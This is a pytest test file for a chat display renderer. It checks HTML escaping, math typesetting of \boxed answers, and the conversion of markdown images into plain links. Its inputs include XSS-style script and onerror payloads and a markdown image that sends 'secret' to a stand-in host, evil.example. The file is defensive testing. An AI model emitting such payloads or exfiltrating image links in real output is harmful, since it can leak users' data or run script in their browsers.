"""What the chat shows: markup as text, math and boxed answers typeset."""

from __future__ import annotations

import pytest

from webapp.chat.render import display, wrap_boxed


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ('<img src=x onerror="x()">', '&lt;img src=x onerror="x()"&gt;'),
        ("a & b", "a &amp; b"),
        ("use `<b>` here", "use `<b>` here"),  # code shows verbatim already
        ("```html\n<div>\n```", "```html\n<div>\n```"),
        ("$a<b$ but <i>", "$a<b$ but &lt;i&gt;"),  # math keeps its symbols
        ("The answer is \\boxed{4}.", "The answer is $\\boxed{4}$."),
        ("\\boxed{\\frac{1}{2}} and \\boxed{3}", "$\\boxed{\\frac{1}{2}}$ and $\\boxed{3}$"),
        ("$$\\boxed{4}$$", "$$\\boxed{4}$$"),  # already math: left alone
        ("\\[ x = \\boxed{2} \\]", "\\[ x = \\boxed{2} \\]"),
        ("\\boxed{unclosed", "\\boxed{unclosed"),
        # Images are never fetched by the viewer's browser: they become links to what they show.
        ("![x](https://evil.example/?d=secret)", "[🖼 x](https://evil.example/?d=secret)"),
        ('see ![](http://e.example/a.png "t") now', 'see [🖼 image](http://e.example/a.png "t") now'),
        ("![logo][1]\n\n[1]: https://e.example/l.png", "[🖼 logo][1]\n\n[1]: https://e.example/l.png"),
        ("`![x](https://e.example/)` is code", "`![x](https://e.example/)` is code"),  # code stays verbatim
        ("wow! [a](b)", "wow! [a](b)"),  # an exclamation before a link is not an image
    ],
)
def test_display(text: str, shown: str) -> None:
    assert display(text) == shown


def test_wrap_boxed_handles_nested_braces() -> None:
    assert wrap_boxed("x \\boxed{\\{a\\} {b}} y") == "x $\\boxed{\\{a\\} {b}}$ y"
